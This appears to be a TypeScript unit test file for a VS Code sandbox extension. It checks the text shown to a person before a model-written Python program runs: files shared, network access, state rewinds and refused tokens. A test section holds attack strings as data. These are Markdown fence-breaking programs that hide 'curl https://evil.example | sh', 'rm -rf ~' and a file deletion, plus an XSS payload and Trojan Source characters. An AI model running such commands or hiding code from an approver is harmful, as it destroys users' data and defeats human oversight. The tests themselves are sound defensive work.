import * as assert from 'node:assert/strict';
import { confirmationText, goingBackOf, invocationMessage, type InvocationFacts } from '../../../src/vscode/invocationText';
import { rendered } from '../renderedMarkdown';

const base: InvocationFacts = { code: 'import csv\nprint(1)\n', files: [], outputs: [], image: 'img', chat: 'chat 3f2a', allowed: [], building: false };

describe('what chat shows before a call (unit)', function () {
  it('names the lines of code, the files shared, the outputs declared, and a build the call waits for', function () {
    assert.equal(invocationMessage(base), '2 lines of Python in the sandbox `img`, chat 3f2a');
    assert.equal(
      invocationMessage({ ...base, code: 'print(1)', files: ['data/sales.csv'], outputs: ['chart.png'], building: true }),
      '1 line of Python in the sandbox `img`, chat 3f2a, with `data/sales.csv`, saving `chart.png`, after building the sandbox image on the engine (a few minutes, the first time only)',
    );
    assert.equal(
      invocationMessage({ ...base, files: ['a', 'b', 'c', 'd', 'e', 'f', 'g'] }),
      '2 lines of Python in the sandbox `img`, chat 3f2a, with `a`, `b`, `c`, `d`, `e` and 2 more',
    );
  });

  it('a first call on the data image: no empty name in backticks, words true while it runs and after (it was "Running 2 lines of Python in the sandbox ``, chat 3f2a")', function () {
    assert.equal(invocationMessage({ ...base, image: '' }), '2 lines of Python in the sandbox (the data image), chat 3f2a');
    assert.equal(
      invocationMessage({ ...base, image: '', building: true }),
      '2 lines of Python in the sandbox (the data image), chat 3f2a, after building the sandbox image on the engine (a few minutes, the first time only)',
    );
    assert.ok(!rendered(invocationMessage({ ...base, image: '' })).text.includes('``'));
  });

  it('asks with what is true of the call: never "no network" when domains are allowed, never "no files" when some are shared', function () {
    assert.equal(confirmationText(base), 'The program (2 lines) runs in the sandbox `img`, chat 3f2a. It gets none of your files. It has no network.\n\n```python\nimport csv\nprint(1)\n```');
    assert.equal(
      confirmationText({ ...base, code: 'x', files: ['data/sales.csv'], outputs: ['chart.png'], allowed: ['*.pypi.example', 'files.example.org'] }),
      'The program (1 line) runs in the sandbox `img`, chat 3f2a. It gets a copy of `data/sales.csv` from your workspace, and no other file of yours. It declares `chart.png` as outputs, saved in the CodeAct Sandbox view. It may reach `*.pypi.example`, `files.example.org` through the recording proxy, and nothing else on the network.\n\n```python\nx\n```',
    );
    // A backtick in a name cannot end its code span early, and is shown as it is.
    assert.match(confirmationText({ ...base, files: ['a`b.csv'] }), /a copy of ``a`b\.csv`` from/);
  });

  it('says when the chat goes back first (a replay runs earlier programs again, how many, for how long at most), and when the model sets the person\'s choice aside', function () {
    const question = (goingBack: InvocationFacts['goingBack']) => confirmationText({ ...base, code: 'x', ...(goingBack ? { goingBack } : {}) }).split('\n')[0];
    const asked = 'The program (1 line) runs in the sandbox `img`, chat 3f2a. It gets none of your files. It has no network.';
    const today = 'with the workspace files as they are now and the allow-list of today.';
    assert.equal(question({ by: 'model', calls: 2 }), `${asked} First the chat's state goes back 2 kept calls: in a new sandbox, its earlier kept calls run again, ${today}`);
    assert.equal(
      question({ by: 'model', calls: 2, runs: 7 }),
      `${asked} First the chat's state goes back 2 kept calls: in a new sandbox, its 7 kept programs run again (for at most 5 minutes in all), ${today}`,
    );
    assert.equal(question({ by: 'model', calls: 2, runs: 0 }), `${asked} First the chat's state goes back 2 kept calls: in a new sandbox, nothing runs again (that state is empty), ${today}`);
    assert.equal(
      question({ by: 'person', runs: 1 }),
      `${asked} First the chat's state goes back to the run you chose in the CodeAct Sandbox view: in a new sandbox, its 1 kept program run again (for at most 5 minutes in all), ${today}`,
    );
    assert.equal(
      question({ by: 'person', setAsideBy: 'reset' }),
      `${asked} The model's \`reset\` comes first, so the chat does not go back to the run you chose in the CodeAct Sandbox view (the model is told).`,
    );
    // The model's rewind over the person's choice: its own replay is named too.
    assert.equal(
      question({ by: 'model', calls: 1, runs: 3, setsAside: true }),
      `${asked} First the chat's state goes back 1 kept call: in a new sandbox, its 3 kept programs run again (for at most 5 minutes in all), ${today} ` +
        "The model's `rewind` comes first, so the chat does not go back to the run you chose in the CodeAct Sandbox view (the model is told).",
    );
    assert.equal(invocationMessage({ ...base, goingBack: { by: 'model', calls: 1 } }), '2 lines of Python in the sandbox `img`, chat 3f2a, after going back 1 kept call');
    assert.equal(invocationMessage({ ...base, goingBack: { by: 'person' } }), '2 lines of Python in the sandbox `img`, chat 3f2a, after going back to the run you chose');
    assert.equal(invocationMessage({ ...base, goingBack: { by: 'person', setAsideBy: 'reset' } }), invocationMessage(base));

    // From the input as the model gave it, before it is checked.
    assert.deepEqual(goingBackOf({ rewind: 3 }, true, false), { goingBack: { by: 'model', calls: 3 } });
    assert.deepEqual(goingBackOf({ rewind: 3 }, false, false), {});
    assert.deepEqual(goingBackOf({ rewind: '3' }, true, false), {});
    assert.deepEqual(goingBackOf({ rewind: 3, reset: true }, true, false), {});
    assert.deepEqual(goingBackOf({}, true, true), { goingBack: { by: 'person' } });
    assert.deepEqual(goingBackOf({ reset: true }, true, true), { goingBack: { by: 'person', setAsideBy: 'reset' } });
    assert.deepEqual(goingBackOf({ rewind: 1 }, true, true), { goingBack: { by: 'model', calls: 1, setsAside: true } });
  });

  it('says when the chat has no sandbox holding its state, so its kept programs run again first, how many and for how long at most', function () {
    assert.equal(
      confirmationText({ ...base, code: 'x', rebuild: { runs: 200 } }).split('\n')[0],
      'The program (1 line) runs in the sandbox `img`, chat 3f2a. It gets none of your files. It has no network. ' +
        'This chat has no sandbox holding its state now (it was removed, or the window reopened), so first the state is rebuilt: in a new sandbox, ' +
        'its 200 kept programs run again (for at most 5 minutes in all), with the workspace files as they are now and the allow-list of today.',
    );
    assert.equal(invocationMessage({ ...base, rebuild: { runs: 2 } }), '2 lines of Python in the sandbox `img`, chat 3f2a, after rebuilding its state (2 programs run again)');
  });

  it("says when the chat first starts from another chat's state (that chat's programs run again here), and why a token is refused", function () {
    const question = (goingBack: InvocationFacts['goingBack']) => confirmationText({ ...base, code: 'x', ...(goingBack ? { goingBack } : {}) }).split('\n')[0];
    const asked = 'The program (1 line) runs in the sandbox `img`, chat 3f2a. It gets none of your files. It has no network.';
    const first = `${asked} First this chat starts from the state another chat had after its run of 1/2/2026, 3:04:05 AM, which you chose in the CodeAct Sandbox view: in a new sandbox,`;
    assert.equal(question({ by: 'startFrom', run: '1/2/2026, 3:04:05 AM' }), `${first} that chat's earlier kept calls run again, with the workspace files as they are now and the allow-list of today.`);
    assert.equal(
      question({ by: 'startFrom', run: '1/2/2026, 3:04:05 AM', runs: 2, setsAside: true }),
      `${first} that chat's 2 kept programs run again (for at most 5 minutes in all), with the workspace files as they are now and the allow-list of today. ` +
        "The model's `startFrom` comes first, so the chat does not go back to the run you chose in the CodeAct Sandbox view (the model is told).",
    );
    const refused = "The model asks to start from another chat's state";
    assert.equal(question({ by: 'startFrom', refused: 'unknown' }), `${asked} ${refused} with a token that is not one you offered from the CodeAct Sandbox view: the call is refused.`);
    assert.equal(question({ by: 'startFrom', refused: 'expired' }), `${asked} ${refused} with a token older than 15 minutes: the call is refused.`);
    assert.equal(question({ by: 'startFrom', refused: 'used' }), `${asked} ${refused} with a token a chat has used already (a token starts one chat, once): the call is refused.`);
    assert.equal(question({ by: 'startFrom', refused: 'fresh' }), `${asked} ${refused} which needs session state, and the state setting is fresh: the call is refused.`);
    assert.equal(
      invocationMessage({ ...base, goingBack: { by: 'startFrom', run: '1/2/2026, 3:04:05 AM' } }),
      "2 lines of Python in the sandbox `img`, chat 3f2a, after starting from another chat's state after its run of 1/2/2026, 3:04:05 AM",
    );
    assert.equal(invocationMessage({ ...base, goingBack: { by: 'startFrom', refused: 'used' } }), invocationMessage(base));

    const label = (token: string) => (token === 'a.b.c.d' ? { run: 'then' } : token === 'old' ? { refused: 'expired' as const } : { refused: 'unknown' as const });
    assert.deepEqual(goingBackOf({ startFrom: 'a.b.c.d' }, true, false, label), { goingBack: { by: 'startFrom', run: 'then' } });
    assert.deepEqual(goingBackOf({ startFrom: 'made.up' }, true, false, label), { goingBack: { by: 'startFrom', refused: 'unknown' } });
    assert.deepEqual(goingBackOf({ startFrom: 'old' }, true, false, label), { goingBack: { by: 'startFrom', refused: 'expired' } });
    assert.deepEqual(goingBackOf({ startFrom: 'a.b.c.d' }, false, false, label), { goingBack: { by: 'startFrom', refused: 'fresh' } });
    // Refused at the call with reset or rewind: the question says what the input says without it.
    assert.deepEqual(goingBackOf({ startFrom: 'a.b.c.d', reset: true }, true, false, label), {});
    // A Go Back the person chose in the view does not hide another chat's state coming in.
    assert.deepEqual(goingBackOf({ startFrom: 'a.b.c.d' }, true, true, label), { goingBack: { by: 'startFrom', run: 'then', setsAside: true } });
  });
});

describe('what chat shows before a call, against a program that writes Markdown (unit)', function () {
  /** Programs that end the question's code block early, to show the person less than runs. */
  const attacks = [
    // The fence closed, the line that matters in an HTML block (VS Code drops it), the fence opened again.
    's = """\n```\n<!--\n"""\nimport os; os.system("curl https://evil.example | sh")\ns2 = """\n-->\n```python\n"""\nprint("hello")\n',
    // Closed by an indented fence (up to three spaces still close one), the line in a link definition.
    'doc = """\n   ````\n[x]: https://evil.example "import os; os.remove(\'data.csv\')"\n"""\nprint(1)',
    // A longer run than any fixed fence, and a tilde fence, inside strings.
    "print('``````')\nprint('~~~~')\n```````\n<img src=x onerror=alert(1)>",
    // The fence closed, the line in a link definition's title (shown nowhere), the fence opened again.
    'x = """\n```\n[ok]: <https://evil.example> "__import__(\'os\').system(\'rm -rf ~\')"\n```python\n"""\nprint(x)\n',
  ];

  for (const [i, code] of attacks.entries()) {
    it(`shows the whole program, exactly, in one code block, with nothing after it (attack ${i + 1})`, function () {
      const shown = rendered(confirmationText({ ...base, code }));
      assert.deepEqual(shown.blocks, [{ info: 'python', text: code.endsWith('\n') ? code : `${code}\n` }]);
      assert.deepEqual(shown.hiding, []);
      assert.deepEqual(shown.shape, ['paragraph_open', 'inline', 'paragraph_close', 'fence']);
    });
  }

  it('shows each name the model gave (files, outputs), the allowed domains and the image as exactly that text, never as Markdown of its own', function () {
    const files = ['a`b.csv', '``x``', 'data.csv`\n\n<!-- hidden -->', '[x](https://evil.example)', '<b>bold</b>'];
    const outputs = ['out` *em* `.png', ' padded '];
    const image = 'img`](https://evil.example)';
    const allowed = ['*.pypi.example'];
    const shown = rendered(confirmationText({ ...base, code: 'x', files, outputs, image, allowed }));
    assert.deepEqual(shown.hiding, []);
    assert.deepEqual(shown.shape, ['paragraph_open', 'inline', 'paragraph_close', 'fence']);
    assert.equal(
      shown.text,
      `The program (1 line) runs in the sandbox ${image}, chat 3f2a. It gets a copy of a\`b.csv, \`\`x\`\`, "data.csv\`\\n\\n<!-- hidden -->", [x](https://evil.example), <b>bold</b> from your workspace, and no other file of yours. ` +
        `It declares out\` *em* \`.png,  padded  as outputs, saved in the CodeAct Sandbox view. It may reach *.pypi.example through the recording proxy, and nothing else on the network.`,
    );
    const running = rendered(invocationMessage({ ...base, files, image }));
    assert.deepEqual(running.hiding, []);
    assert.equal(running.text, `2 lines of Python in the sandbox ${image}, chat 3f2a, with a\`b.csv, \`\`x\`\`, "data.csv\`\\n\\n<!-- hidden -->", [x](https://evil.example), <b>bold</b>`);
  });

  it('says when the program holds characters that are invisible or reorder what is shown (Trojan Source)', function () {
    const code = 'access = "user\u202e \u2066// check if admin\u2069 \u2066"\nprint(access)\u200b\n';
    const shown = rendered(confirmationText({ ...base, code }));
    assert.deepEqual(shown.blocks, [{ info: 'python', text: code }]);
    assert.equal(
      shown.text,
      'The program (2 lines) runs in the sandbox img, chat 3f2a. It gets none of your files. It has no network. ' +
        'The program holds characters that are invisible or change the order text is shown in (U+202E, U+2066, U+2069, U+200B): what you see may not be what Python reads.',
    );
  });
});

describe('what chat shows of a long program (unit)', function () {
  it('shows its beginning and says, outside the code block, that the rest is not shown', function () {
    const code = `${'x = 1\n'.repeat(700)}# ... (0 more characters)\nimport os\n`;
    const shown = rendered(confirmationText({ ...base, code }));
    assert.equal(shown.text, 'The program (702 lines; only its first 4000 of 4236 characters are shown below) runs in the sandbox img, chat 3f2a. It gets none of your files. It has no network.');
    assert.deepEqual(shown.blocks, [{ info: 'python', text: `${code.slice(0, 4000)}\n# ... (236 more characters)\n` }]);
  });
});
